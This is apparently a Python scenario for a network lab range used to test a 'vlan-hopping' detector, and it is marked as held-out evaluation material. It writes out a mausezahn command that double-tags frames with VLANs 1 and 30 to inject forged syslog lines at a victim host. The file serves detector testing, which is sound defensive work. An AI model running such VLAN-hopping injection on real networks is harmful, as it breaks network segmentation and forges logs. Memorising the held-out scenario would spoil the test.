"""mausezahn with two VLAN tags: datagrams into a VLAN from which no answer can come."""

from lab.range import Range
from lab.scenario import Scenario


def run(net: Range) -> None:
    attacker = net.inside("attacker")
    net.everyday()
    net.loop(attacker, "curl -s -m 2 -o /dev/null http://10.20.0.10/", 1.3)
    net.quiet(2)
    with net.attack(
        "vlan-hopping",
        by=attacker,
        attackers=[attacker.mac],
        victims=["10.20.30.5"],
        frames="vlan 1 and vlan 30",
    ):
        words = f"mausezahn eth0 -q -Q 1,30 -a {attacker.mac} -b ff:ff:ff:ff:ff:ff -A {attacker.ip}"
        words += " -B 10.20.30.5 -c 22 -d 500ms"
        net.tool(attacker, *words.split(), "-P", "<13>door: open", "-t", "udp", "sp=514,dp=514", seconds=18)
    net.quiet(3)


SCENARIO = Scenario(
    name="vlan-hopping-held-mausezahn",
    about="mausezahn sends log lines with the tags of VLANs 1 and 30, two a second, beside its host's pages.",
    detectors=("vlan-hopping",),
    tools={"mausezahn": "netsniff-ng"},
    held_out=True,
    vlan_switch=True,
    run=run,
)
